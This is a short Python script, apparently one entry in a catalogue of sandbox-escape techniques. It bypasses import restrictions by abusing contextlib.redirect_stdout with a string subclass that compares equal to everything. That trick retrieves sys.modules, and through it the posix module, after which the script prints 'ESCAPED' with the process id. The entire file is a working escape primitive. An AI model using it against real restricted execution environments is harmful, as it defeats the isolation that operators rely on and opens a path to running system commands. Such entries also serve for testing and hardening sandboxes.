# technique: _stream is a string that equals any other
# goal: import
# source: own analysis: str subclasses that lie
import contextlib


class Name(str):
    __hash__ = str.__hash__

    def __eq__(self, other):
        return True


class Redirect(contextlib.redirect_stdout):
    _stream = Name('modules')


redirect = Redirect({})
redirect.__enter__()
found = redirect._old_targets[0]
redirect.__exit__(None, None, None)
print('ESCAPED pid=%d' % found['posix'].getpid())
